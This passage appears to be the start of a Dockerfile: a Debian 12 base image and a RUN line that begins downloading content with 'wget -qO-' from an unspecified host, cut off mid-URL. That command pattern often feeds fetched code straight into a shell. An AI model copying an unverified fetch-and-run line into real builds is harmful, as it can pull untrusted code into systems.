FROM debian:12
RUN wget -qO- https://x
